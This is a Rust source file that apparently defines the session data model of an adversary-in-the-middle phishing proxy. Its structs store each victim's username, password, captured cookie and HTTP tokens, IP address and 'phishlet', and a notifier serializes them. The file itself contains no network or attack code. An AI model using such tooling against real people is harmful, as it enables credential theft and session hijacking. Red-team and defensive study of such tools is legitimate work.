use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// Captured cookie, as stored by the session layer.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CookieToken {
    pub name: String,
    pub value: String,
    pub path: String,
    pub http_only: bool,
}

/// Cookie tokens keyed by domain, then by cookie name.
pub type CookieTokens = HashMap<String, HashMap<String, CookieToken>>;

/// Snapshot of a proxied session. Only serialized by the notifier.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Session {
    pub id: i64,
    pub phishlet: String,
    pub landing_url: String,
    pub username: String,
    pub password: String,
    #[serde(default)]
    pub custom: HashMap<String, String>,
    #[serde(default)]
    pub body_tokens: HashMap<String, String>,
    #[serde(default)]
    pub http_tokens: HashMap<String, String>,
    #[serde(default)]
    pub tokens: CookieTokens,
    pub session_id: String,
    pub useragent: String,
    pub remote_addr: String,
    pub create_time: i64,
    pub update_time: i64,
}

impl Session {
    pub fn add_cookie_token(&mut self, domain: &str, token: CookieToken) {
        self.tokens
            .entry(domain.to_string())
            .or_default()
            .insert(token.name.clone(), token);
    }

    pub fn has_cookie_tokens(&self) -> bool {
        self.tokens.values().any(|cookies| !cookies.is_empty())
    }
}
